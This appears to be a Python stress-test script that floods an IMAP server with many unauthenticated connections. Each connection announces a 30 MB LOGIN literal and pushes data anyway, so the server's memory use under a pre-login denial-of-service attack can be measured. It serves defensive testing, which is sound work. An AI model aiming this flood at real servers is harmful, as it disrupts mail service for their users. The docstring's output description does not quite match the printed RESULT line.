#!/usr/bin/env python3
"""Unauthenticated IMAP connections that each announce a 30 MB literal and then send data anyway, as
an attacker would; the caller measures the server's memory meanwhile. asyncio, standard library only.

  imap_prelogin.py --port P --connections 1000 [--host 127.0.0.1] [--push-mb 1] [--ready-file F]
                   [--hold-secs 5]

Half the connections announce a synchronising literal (`a LOGIN {30000000}`) and, whatever the answer,
push --push-mb of data; the other half announce a non-synchronising one (`{30000000+}`) and push the
same. Once every connection has pushed (or was closed) the ready file is written and the connections
are held for --hold-secs.
Last line: RESULT imap_prelogin connections=N answered_bad=B answered_bye=Y closed=C pushed_mb=M
"""
import argparse
import asyncio
import time

CHUNK = b"x" * 65536


async def attack(args, index, limit, tally, held):
    async with limit:
        try:
            reader, writer = await asyncio.open_connection(args.host, args.port, limit=1 << 16)
        except OSError:
            tally["refused"] += 1
            return
        try:
            await asyncio.wait_for(reader.readline(), 30)
            synchronising = index % 2 == 0
            writer.write(b"a LOGIN {30000000}\r\n" if synchronising else b"a LOGIN {30000000+}\r\n")
            await writer.drain()
            if synchronising:
                answer = await asyncio.wait_for(reader.readline(), 30)
                if answer.startswith(b"a BAD"):
                    tally["bad"] += 1
            pushed = 0
            while pushed < args.push_mb * 1048576:
                writer.write(CHUNK)
                await asyncio.wait_for(writer.drain(), 10)
                pushed += len(CHUNK)
            tally["pushed"] += pushed
        except (OSError, asyncio.TimeoutError, ConnectionError):
            tally["closed"] += 1
        held.append(writer)


async def main():
    p = argparse.ArgumentParser()
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--connections", type=int, default=1000)
    p.add_argument("--push-mb", type=float, default=1)
    p.add_argument("--ready-file")
    p.add_argument("--hold-secs", type=float, default=5)
    args = p.parse_args()
    tally = {"bad": 0, "closed": 0, "pushed": 0, "refused": 0}
    held = []
    limit = asyncio.Semaphore(200)
    await asyncio.gather(*(attack(args, i, limit, tally, held) for i in range(args.connections)))
    if args.ready_file:
        with open(args.ready_file, "w") as f:
            f.write(str(args.connections))
    await asyncio.sleep(args.hold_secs)
    byes = 0
    for writer in held:
        writer.close()
    print(f"RESULT imap_prelogin connections={args.connections} answered_bad={tally['bad']} refused={tally['refused']} "
          f"closed={tally['closed']} pushed_mb={tally['pushed'] / 1048576:.0f}")


asyncio.run(main())
